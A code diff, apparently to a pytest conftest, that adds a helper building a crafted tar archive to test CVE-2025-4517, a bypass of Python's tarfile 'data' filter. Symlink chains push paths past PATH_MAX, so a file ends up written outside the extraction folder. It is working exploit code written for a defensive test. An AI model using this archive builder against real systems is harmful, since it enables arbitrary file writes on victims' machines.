@@ -59,3 +59,37 @@ def pytest_collection_modifyitems(items) -> None:
     for item in items:
         if str(item.fspath).endswith(".ipynb"):
             item.add_marker(pytest.mark.notebook)
+
+
+def realpath_limit_tar(archive: Path, *, extract_dir_length: int, climb: int = 1) -> Path:
+    """A tar that escapes Python's "data" filter through CVE-2025-4517 (its test, `test_realpath_limit_attack`).
+
+    Short links ``a`` .. ``p`` expand into folders with long names, so the path of the last link exceeds
+    PATH_MAX once resolved and ``os.path.realpath`` stops resolving it: the filter believes ``escape``
+    (``<last link>/..``, with `climb` extra ``..``) stays inside while the kernel resolves it `climb`
+    folders above the folder the archive is extracted into, and ``escape/evil.txt`` is written there.
+    `extract_dir_length` is the length of the path of that folder (the component length depends on it).
+    """
+    import io
+    import tarfile
+
+    steps = "abcdefghijklmnop"
+    component = "d" * ((os.pathconf("/", "PC_PATH_MAX") - extract_dir_length - 1) // (len(steps) + 1))
+    with tarfile.open(archive, "w", format=tarfile.PAX_FORMAT) as tf:
+        def add(name, kind, linkname="", data=None):
+            info = tarfile.TarInfo(name)
+            info.type, info.linkname, info.mode = kind, linkname, 0o777 if kind == tarfile.DIRTYPE else 0o644
+            if data is not None:
+                info.size = len(data)
+            tf.addfile(info, io.BytesIO(data) if data is not None else None)
+
+        path = ""
+        for step in steps:
+            add(os.path.join(path, component), tarfile.DIRTYPE)
+            add(os.path.join(path, step), tarfile.SYMTYPE, component)
+            path = os.path.join(path, component)
+        link = os.path.join(*steps, "l" * 254)
+        add(link, tarfile.SYMTYPE, os.path.join(*[".."] * len(steps)))
+        add("escape", tarfile.SYMTYPE, os.path.join(link, *[".."] * climb))
+        add("escape/evil.txt", tarfile.REGTYPE, data=b"written outside")
+    return archive
